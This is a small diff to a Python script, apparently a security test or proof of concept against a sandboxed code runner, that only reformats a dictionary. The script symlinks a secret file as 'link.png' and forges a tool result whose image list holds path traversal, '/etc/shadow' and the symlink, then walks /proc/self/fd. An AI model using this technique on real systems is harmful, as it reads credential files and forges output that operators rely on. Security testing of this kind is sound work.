@@ -5,8 +5,12 @@ import os
 import struct
 
 os.symlink(SECRET_FILE, "link.png")
-fake = {"stdout": "FORGED", "error": None, "note": None,
-        "images": [VICTIM, "../../" + VICTIM, "/etc/shadow", os.path.abspath("link.png")]}
+fake = {
+    "stdout": "FORGED",
+    "error": None,
+    "note": None,
+    "images": [VICTIM, "../../" + VICTIM, "/etc/shadow", os.path.abspath("link.png")],
+}
 data = json.dumps(fake).encode()
 for entry in os.listdir("/proc/self/fd"):
     try:
